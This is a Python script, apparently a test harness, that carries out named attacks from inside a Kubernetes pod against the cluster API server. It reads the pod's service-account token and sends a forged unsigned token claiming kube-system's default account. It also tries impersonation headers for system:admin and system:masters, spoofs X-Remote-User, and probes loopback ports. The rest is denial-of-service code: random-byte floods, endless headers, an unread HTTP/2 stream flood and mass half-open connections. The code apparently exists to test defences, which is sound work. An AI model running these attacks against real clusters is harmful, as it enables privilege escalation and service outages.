"""What a hostile program does from inside a recorded pod: `python attacks.py NAME...`, one line of JSON for each.

It stands alone: a pod runs it that has nothing of this project but the file.
"""

import json
import os
import socket
import ssl
import sys
import time
from contextlib import ExitStack, suppress
from pathlib import Path

from h2.config import H2Configuration
from h2.connection import H2Connection

API = ("10.96.0.1", 443)
ACCOUNT = Path("/var/run/secrets/kubernetes.io/serviceaccount")
PATIENCE = 10
HALF_OPEN = 2000
FORGED = "eyJhbGciOiJub25lIn0.eyJzdWIiOiJzeXN0ZW06c2VydmljZWFjY291bnQ6a3ViZS1zeXN0ZW06ZGVmYXVsdCJ9.AAAA"
"""A token without a signature that says: kube-system's default service account."""


def secured(sock, name="kubernetes.default.svc", protocol="http/1.1"):
    context = ssl.create_default_context(cafile=ACCOUNT / "ca.crt")
    context.check_hostname = False
    context.set_alpn_protocols([protocol])
    return context.wrap_socket(sock, server_hostname=name)


def connect():
    return socket.create_connection(API, PATIENCE)


def ended(sock):
    """Read to the end; return what was said before it."""
    with suppress(OSError):
        return b"".join(iter(lambda: sock.recv(65536), b"")).decode("latin-1")[:200]
    return ""


def listener():
    """Connect to every port that loopback listens on, without being redirected there."""
    lines = [line.split() for line in Path("/proc/net/tcp").read_text().splitlines()[1:]]
    ports = [int(line[1].split(":")[1], 16) for line in lines if line[3] == "0A" and line[1].startswith("0100007F")]
    said = []
    for port in ports:
        with socket.create_connection(("127.0.0.1", port), PATIENCE) as sock:
            with suppress(OSError):
                sock.sendall(b"\x16\x03\x01\x02\x00")
            said.append(ended(sock))
    return {"ports": len(ports), "said": "".join(said)}


def forged():
    """Ask with another name in SNI, another's token, another's address, and in another's name."""
    statuses = []
    token = (ACCOUNT / "token").read_text()
    for more in (
        f"Authorization: Bearer {FORGED}\r\n",
        f"Authorization: Bearer {token}\r\nImpersonate-User: system:admin\r\nImpersonate-Group: system:masters\r\n",
        f"Authorization: Bearer {token}\r\nX-Forwarded-For: 203.0.113.9\r\nX-Remote-User: admin\r\n",
    ):
        with secured(connect(), "evil.example") as sock:
            head = f"GET /api/v1/nodes HTTP/1.1\r\nHost: evil.example\r\nUser-Agent: forger/1\r\n{more}"
            sock.sendall(f"{head}Connection: close\r\n\r\n".encode())
            statuses.append(ended(sock).split()[1])
    return {"statuses": statuses}


def garbage():
    """Send what is neither TLS nor anything else."""
    for _ in range(20):
        with connect() as sock, suppress(OSError):
            sock.settimeout(1)
            sock.sendall(os.urandom(20_000))
            ended(sock)
    return {}


def headers():
    """Send headers without an end."""
    with secured(connect()) as sock, suppress(OSError):
        sock.sendall(b"GET /api HTTP/1.1\r\nHost: x\r\n")
        for number in range(10_000):
            sock.sendall(f"X-{number}: {'y' * 4000}\r\n".encode())
    return {}


def never_reads():
    """Ask for lists over HTTP/2, allow everything, and never read."""
    with secured(connect(), protocol="h2") as sock, suppress(OSError):
        token = (ACCOUNT / "token").read_text()
        peer = H2Connection(H2Configuration(client_side=True, header_encoding="utf-8"))
        peer.initiate_connection()
        peer.increment_flow_control_window(2**30)
        request = [(":method", "GET"), (":scheme", "https"), (":authority", "x"), (":path", "/openapi/v2")]
        for stream in range(1, 201, 2):
            peer.send_headers(stream, [*request, ("authorization", f"Bearer {token}")], end_stream=True)
            peer.increment_flow_control_window(2**30, stream)
        sock.sendall(peer.data_to_send())
        time.sleep(PATIENCE / 2)
    return {}


def half_open():
    """Open connections and say nothing on them."""
    over = time.monotonic() + 2 * PATIENCE
    with ExitStack() as stack:
        opened = 0
        while opened < HALF_OPEN and time.monotonic() < over:
            with suppress(OSError):
                stack.enter_context(socket.create_connection(API, 1))
                opened += 1
        time.sleep(PATIENCE / 2)
    return {"opened": opened}


if __name__ == "__main__":
    for name in sys.argv[1:]:
        print(json.dumps({"attack": name, **globals()[name]()}), flush=True)
